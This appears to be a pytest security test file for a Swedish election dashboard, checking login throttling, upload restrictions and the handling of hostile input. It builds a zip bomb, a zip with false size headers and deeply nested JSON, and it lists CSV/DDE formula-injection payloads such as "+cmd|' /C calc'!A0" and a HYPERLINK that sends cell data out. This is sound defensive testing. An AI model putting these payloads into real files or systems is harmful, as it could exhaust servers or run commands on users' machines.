"""What an anonymous client, a logged-in member and a hostile file can do (issue 16).

Against `python -m dashboard serve` on a free loopback port, configured as docs/deploy.md
describes for a closed deployment: every page behind the built-in login (a shared password and
a personal one), two run slots (so parallel login guesses really run in parallel), and a data
folder of its own whose warehouse links to data/ (imports land there, not in data/). Driven
over Streamlit's websocket protocol and HTTP like a browser: forms are filled in and submitted,
files are uploaded through the upload endpoint, tables are downloaded through their buttons.
"""
from __future__ import annotations

import asyncio
import csv
import io
import re
import urllib.request
import zipfile
import zlib

import pytest

from dashboard import auth
from tests.test_internal_pages import make_data_dir
from tests.test_protocol_access import (TIMEOUT, Client, _LOGS, put_file, run_async, serve)

PASSWORD = "rätt häftig lösenfras 2026"
ANNA = "annas egen långa lösenfras"
MB = 1024 * 1024


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("abuse")
    env = {
        "VALRUMMET_REQUIRE_LOGIN": "1",
        "VALRUMMET_PASSWORD_HASH": auth.hash_password(PASSWORD),
        "VALRUMMET_USERS": f"anna:{auth.hash_password(ANNA)}",
        "VALRUMMET_MAX_RUNS": "2",
        "VALRUMMET_DATA_DIR": str(make_data_dir(tmp)),
        "VALRUMMET_LOGIN_THROTTLE": str(tmp / "login-throttle.sqlite"),
    }
    with serve(tmp, env=env) as base:
        yield base


def log(base: str) -> str:
    return _LOGS[base].read_text(encoding="utf-8", errors="replace")


async def logged_in(c: Client, page: str = "", query: str = "") -> None:
    """Open the login, log in with the shared password, then open `page`."""
    await c.run()
    after = await c.login(PASSWORD)
    assert "Importera" in after.pages.values(), after.texts()
    if page or query:
        run = await c.run(page, query)
        assert not run.exceptions(), run.exceptions()


def alert_bodies(run) -> list[str]:
    return [el.alert.body for el in run.elements() if el.WhichOneof("type") == "alert"]


# --- 1. meeting mode behind the login ----------------------------------------------------------


@pytest.mark.parametrize("page,query", [
    ("", "mote=1"), ("oversikt", "mote=1"), ("kommuner", "mote=1"), ("jamfor", "mote=1&parti=Moderaterna"),
    ("valdistrikt", "mote=1&skarm=3"), ("hemlig_sida", "mote=1"), ("tidningar", "mote=1"),
])
def test_meeting_mode_shows_an_anonymous_visitor_only_the_login(server, page, query):
    run = run_async(_open(server, page, query))
    assert not run.exceptions(), run.exceptions()
    assert set(run.pages.values()) == {"Logga in"}
    assert "Logga in" in run.texts()
    blob = b"".join(run.raw)
    # No meeting screen (its containers and buttons), no "Mötesläge" button, no result numbers.
    for marker in (b"mote_skarm", b"mote_knappar", "Mötesläge".encode(), "Avsluta mötesläge".encode(),
                   b"moteslage"):
        assert marker not in blob, marker
    assert not any(re.search(r"\d+,\d+ %", t) for t in run.texts())


def test_meeting_mode_by_page_hash_shows_only_the_login(server):
    from streamlit.util import calc_hash

    async def go():
        async with Client(server) as c:
            await c.run()
            return await c.run(query="mote=1", page_hash=calc_hash("kommuner"))

    run = run_async(go())
    assert set(run.pages.values()) == {"Logga in"}
    assert b"mote_skarm" not in b"".join(run.raw)


async def _open(base, page, query):
    async with Client(base) as c:
        return await c.run(page, query)


# --- 7. the login slow-down ---------------------------------------------------------------------


def test_wrong_guesses_in_a_room_do_not_lock_out_the_right_password(server):
    """Everyone at a meeting shares one address: one person's wrong guesses must not refuse
    the right password of the others (it did after four, for up to 5 minutes)."""

    async def go():
        async with Client(server) as guesser:
            await guesser.run()
            wrong = [await guesser.login("fel lösenord") for _ in range(5)]
        async with Client(server) as member:
            await member.run()
            right = await member.login(PASSWORD)
        return wrong, right

    wrong, right = run_async(go())
    assert any("Vänta" in " ".join(alert_bodies(w)) for w in wrong)  # the guesser's tab slows down
    assert "Importera" in right.pages.values(), alert_bodies(right)
    text = log(server)
    # The audit trail: who, when (the log line's time), from where; never a password.
    assert re.search(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3} INFO +dashboard\.auth: login ok: gemensamt "
                     r"lösenord from 127\.0\.0\.1$", text, re.M)
    assert "login failed: name='' from 127.0.0.1" in text
    assert PASSWORD not in text and "fel lösenord" not in text


def test_parallel_guesses_are_counted_before_they_are_checked(server):
    """50 guesses for one name at once, two script runs at a time: exactly the guesses the
    policy allows are verified (the check and the record are one step); the rest wait."""
    n = 50

    async def one(i: int) -> list[str]:
        async with Client(server) as c:
            await c.run()
            return alert_bodies(await c.login(f"gissning {i}", name="anna"))

    async def go():
        return await asyncio.gather(*(one(i) for i in range(n)))

    answers = [" ".join(a) for a in run_async(go())]
    verified = [a for a in answers if a.startswith("Fel namn eller lösenord.")]
    refused = [a for a in answers if a.startswith("För många felaktiga försök.")]
    assert len(verified) + len(refused) == n, answers
    # The free guesses, then each verified guess one step further in the doubling wait: two
    # guesses passing the check on the same count (a race) would share a wait.
    free = [a for a in verified if "Vänta" not in a]
    waits = [a for a in verified if "Vänta" in a]
    assert len(free) == auth.ADDRESS_TIER.free, answers
    assert any("Vänta 2 sekunder innan nästa försök." in w for w in waits), waits
    assert len(set(waits)) == len(waits), waits
    assert refused  # the rest waited (a 2 s wait outlasts what 50 guesses at once take to arrive)


# --- 3. uploads ---------------------------------------------------------------------------------


async def _upload_urls(c: Client, n: int = 1) -> list:
    from streamlit.proto.BackMsg_pb2 import BackMsg

    msg = BackMsg()
    msg.file_urls_request.request_id = "u1"
    msg.file_urls_request.session_id = c.session_id
    msg.file_urls_request.file_names.extend(f"f{i}.zip" for i in range(n))
    await c.send(msg)
    return list((await c._reply("file_urls_response", "u1")).file_urls_response.file_urls)


def uploaded_bytes(base: str) -> int:
    """What Streamlit's upload manager holds, from /_stcore/metrics."""
    with urllib.request.urlopen(f"{base}/_stcore/metrics", timeout=10) as r:
        text = r.read().decode()
    m = re.search(r'cache_memory_bytes\{cache_type="UploadedFileManager",cache="UploadedFileManager"\} (\d+)', text)
    return int(m.group(1)) if m else 0


def test_only_a_logged_in_session_showing_an_uploader_may_upload(server):
    payload = b"x" * (2 * MB)

    async def go():
        out = {}
        async with Client(server) as anon:  # anonymous: the login page
            await anon.run()
            urls = await _upload_urls(anon, 3)
            out["anonymous"] = [put_file(server, u.upload_url, "a.zip", payload) for u in urls]
            out["made-up id"] = put_file(server, f"/_stcore/upload_file/{anon.session_id}/egen", "a.zip", payload)
        async with Client(server) as member:
            await logged_in(member, "kommuner")  # logged in, but no uploader on the page
            url = (await _upload_urls(member))[0]
            out["no uploader"] = put_file(server, url.upload_url, "a.zip", payload)
            await member.run("importera", "del=Valresultat")  # the uploader is shown now
            out["uploader"], _ = await member.upload("resultat_filer", [("Val_2026_slutlig_0114_KF.zip", payload)])
            # Per session at most 100 MB held: of three 45 MB files (each under the 50 MB per
            # file) sent at once, as a browser sends several files, the third does not fit.
            big = b"y" * (45 * MB)
            out["3 x 45 MB"] = [put_file(server, u.upload_url, f"{i}.zip", big)
                                for i, u in enumerate(await _upload_urls(member, 3))]
            out["held"] = uploaded_bytes(server)
            url = (await _upload_urls(member))[0]
            out["no length"] = _put_chunked(server, url.upload_url)
            await member.click("logga_ut")  # logged out: the uploader is gone
            url = (await _upload_urls(member))[0]
            out["logged out"] = put_file(server, url.upload_url, "a.zip", payload)
        return out

    before = uploaded_bytes(server)
    out = run_async(go())
    assert out["anonymous"] == [403, 403, 403] and out["made-up id"] == 403
    assert out["no uploader"] == 403
    assert out["uploader"] == [204]
    assert out["3 x 45 MB"] == [204, 204, 413]
    assert out["held"] - before <= 100 * MB
    assert out["no length"] == 411
    assert out["logged out"] == 403
    assert "nekade uppladdning (403) från 127.0.0.1: ingen filuppladdning visas" in log(server)


def _put_chunked(base: str, url: str) -> int:
    import http.client

    host, port = base.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=TIMEOUT)
    try:
        conn.request("PUT", url, body=iter([b"--x\r\n", b"data"]), encode_chunked=True,
                     headers={"Content-Type": "multipart/form-data; boundary=x"})
        resp = conn.getresponse()
        resp.read()
        return resp.status
    finally:
        conn.close()


# --- 5. hostile result files --------------------------------------------------------------------


def _zip(name: str, members: dict[str, bytes]) -> tuple[str, bytes]:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for member, data in members.items():
            zf.writestr(member, data)
    return name, buf.getvalue()


def _deflated_zeros(size: int) -> tuple[bytes, int, int]:
    """(raw deflate stream, unpacked size, CRC-32) of `size` bytes of zeros, made in chunks."""
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    chunk = bytes(16 * MB)
    n = max(1, size // len(chunk))
    packed = b"".join(comp.compress(chunk) for _ in range(n)) + comp.flush()
    crc = 0
    for _ in range(n):
        crc = zlib.crc32(chunk, crc)
    return packed, n * len(chunk), crc


def zip_bomb(gigabytes: float = 1.0) -> tuple[str, bytes]:
    """A ~1 MB zip whose result member unpacks to `gigabytes` GB of zeros."""
    packed, size, crc = _deflated_zeros(int(gigabytes * 1024 * MB))
    return "Val_2026_slutlig_0114_KF.zip", _raw_zip("Val_2026_slutlig_rostfordelning_0114_KF.json", packed, size, crc)


def _raw_zip(member: str, packed: bytes, size: int, crc: int, declared: int | None = None) -> bytes:
    """A zip of the member given as a raw deflate stream (`declared` may lie about its size) and
    a small mandatfordelning member, built by hand: zipfile would unpack and pack it itself."""
    import struct

    second = "Val_2026_slutlig_mandatfordelning_0114_KF.json"
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    members = [(member, packed, size if declared is None else declared, crc),
               (second, comp.compress(b"{}") + comp.flush(), 2, zlib.crc32(b"{}"))]
    local, central = b"", b""
    for name, data, length, checksum in members:
        raw = name.encode()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, checksum, len(data), length,
                               len(raw), 0, 0, 0, 0, 0, len(local)) + raw
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, checksum, len(data), length,
                             len(raw), 0) + raw + data
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(local), 0)
    return local + central + end


def hostile_json(member_text: bytes) -> tuple[str, bytes]:
    return _zip("Val_2026_slutlig_0114_KF.zip", {
        "Val_2026_slutlig_rostfordelning_0114_KF.json": member_text,
        "Val_2026_slutlig_mandatfordelning_0114_KF.json": b"{}",
    })


def lying_zip() -> tuple[str, bytes]:
    """Says its member unpacks to 1 000 bytes; it unpacks to 32 MB of zeros."""
    packed, size, crc = _deflated_zeros(32 * MB)
    return "Val_2026_slutlig_0114_KF.zip", _raw_zip("Val_2026_slutlig_rostfordelning_0114_KF.json", packed,
                                                    size, crc, declared=1000)


@pytest.mark.parametrize("make,expected", [
    (lambda: zip_bomb(1.0), "ser ut som en zip-bomb och läses inte"),
    (lying_zip, "kontrollsumma (CRC) stämmer inte"),
    (lambda: hostile_json(b"[" * 200_000 + b"]" * 200_000), "nästlad för djupt"),
    (lambda: hostile_json(b'{"valdistrikt": [' + b"1" * 5000 + b"]}"), "ett tal med 5000 siffror"),
], ids=["zip-bomb", "lying-sizes", "deep-json", "5000-digits"])
def test_hostile_result_files_are_refused_in_swedish(server, make, expected):
    name, data = make()

    async def go():
        async with Client(server) as c:
            await logged_in(c, "importera", "del=Valresultat")
            statuses, uploaded = await c.upload("resultat_filer", [(name, data)])
            assert statuses == [204]
            return await c.click("resultat_kontrollera")

    lines_before = log(server).count("\n")
    run = run_async(go())
    assert not run.exceptions(), run.exceptions()
    assert "Importera data" in run.texts()  # the page is there, not blank
    errors = " ".join(alert_bodies(run))
    assert f"Fel i källfilen {name}" in errors and expected in errors, errors
    new_log = "\n".join(log(server).splitlines()[lines_before:])
    assert "Traceback" not in new_log and "Uncaught" not in new_log


# --- UTF-16 CSV, markdown in names and file names, formulas in downloads ----------------------------


def _csv(rows: list[list[str]], encoding: str = "utf-8-sig", sep: str = ";") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode(encoding)


async def _check_activity(c: Client, name: str, data: bytes, store: bool = False):
    statuses, _ = await c.upload("aktivitet_fil", [(name, data)])
    assert statuses == [204]
    return await c.click("aktivitet_spara" if store else "aktivitet_kontrollera")


def test_excel_unicode_text_is_read(server):
    """Excel's "Unicode text" is UTF-16 with a BOM and tabs; it was refused with "hittar ingen
    rubrikrad"."""
    rows = [["kommun", "dörrar", "samtal", "datum"], ["Botkyrka", "120", "30", "2022-08-20"],
            ["Södertälje", "80", "20", "2022-08-27"]]

    async def go():
        async with Client(server) as c:
            await logged_in(c, "importera")
            return await _check_activity(c, "dörrknackning.txt", _csv(rows, "utf-16", "\t"))

    run = run_async(go())
    bodies = " ".join(alert_bodies(run))
    assert "dörrknackning.txt: giltig – 2 rader dörrknackning" in bodies, bodies


def test_names_from_files_are_shown_as_text(server):
    """A file name and an association name written as Markdown (bold, an image from someone's
    server) are shown as the characters they are."""
    evil = "**Fet** ![bild](http://127.0.0.1:9/spår.png)"
    bad_rows = [["förening_id", "förening", "kommun"], ["1", "x", "Gotham"]]
    good_rows = [["förening_id", "förening", "kommun"], ["1", evil, "Botkyrka"]]

    async def go():
        async with Client(server) as c:
            await logged_in(c, "importera")
            refused = await _check_activity(c, f"{evil}.csv", _csv(bad_rows))
            stored = await _check_activity(c, "foreningar.csv", _csv(good_rows), store=True)
            card = await c.run("prioriteringar")
            return refused, stored, card

    refused, stored, card = run_async(go())
    from dashboard.fmt import md_text

    escaped = md_text(evil)
    # Every character that would make bold text, a link or an image is escaped.
    assert not re.search(r"[*!\[\]]|://", re.sub(r"\\.", "", escaped)), escaped
    titles = [el.alert.title for el in refused.elements() if el.WhichOneof("type") == "alert"]
    assert any(escaped in t for t in titles), titles
    assert not any("![bild]" in b for b in alert_bodies(refused) + titles)
    assert any("giltig – 1 rader partiföreningar" in b for b in alert_bodies(stored)), alert_bodies(stored)
    assert not card.exceptions(), card.exceptions()
    metrics = {el.metric.label: el.metric.body for el in card.elements() if el.WhichOneof("type") == "metric"}
    assert metrics["Högst rankad"] == escaped
    shown = [t for t in card.texts() if "Fet" in t]
    assert shown and all("![bild]" not in t for t in shown), shown


FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?"&A1,"Klicka")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "=1+1"]


def test_downloads_keep_text_as_text_and_numbers_as_numbers(server):
    from openpyxl import load_workbook

    rows = [["namn", "kommun", "valår", "lat", "lon", "anteckning"]]
    rows += [[f, "Botkyrka", "2022", "59,2", "17,83", f"anteckning {i}"] for i, f in enumerate(FORMULAS)]

    async def go():
        async with Client(server) as c:
            await logged_in(c, "importera")
            stored = await _check_activity(c, "valstugor.csv", _csv(rows), store=True)
            await c.run("valstugor")
            files = {k: await c.download(k) for k in ("valstugor_lista_csv", "valstugor_lista_xlsx")}
            await c.run("kommuner", "parti=Moderaterna")
            files["kommuner_csv"] = await c.download("kommuner_tabell_csv")
            files["kommuner_xlsx"] = await c.download("kommuner_tabell_xlsx")
            return stored, files

    stored, files = run_async(go())
    assert any("giltig – 5 rader valstugor" in b for b in alert_bodies(stored)), alert_bodies(stored)
    table = list(csv.reader(io.StringIO(files["valstugor_lista_csv"].decode("utf-8-sig")), delimiter=";"))
    names = [r[0] for r in table[1:]]
    assert sorted(names) == sorted("'" + f for f in FORMULAS)  # each text kept, made plain text
    lat = table[0].index("Latitud")
    assert {r[lat] for r in table[1:]} == {"59,2"}  # numbers stay numbers: no apostrophe
    sheet = load_workbook(io.BytesIO(files["valstugor_lista_xlsx"]))["Data"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row[:1]]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)
    assert all(c.data_type == "s" for c in cells)  # text cells, never formulas
    assert all(isinstance(row[lat].value, float) for row in sheet.iter_rows(min_row=2))
    # A public table: negative changes stay numbers in both files.
    kommuner = list(csv.reader(io.StringIO(files["kommuner_csv"].decode("utf-8-sig")), delimiter=";"))
    change = next(i for i, h in enumerate(kommuner[0]) if h.startswith("Förändring"))
    negatives = [r[change] for r in kommuner[1:] if r[change].startswith("-")]
    assert negatives and all(re.fullmatch(r"-\d+,\d+", v) for v in negatives)
    ksheet = load_workbook(io.BytesIO(files["kommuner_xlsx"]))["Data"]
    assert any(isinstance(row[change].value, float) and row[change].value < 0 for row in ksheet.iter_rows(min_row=2))
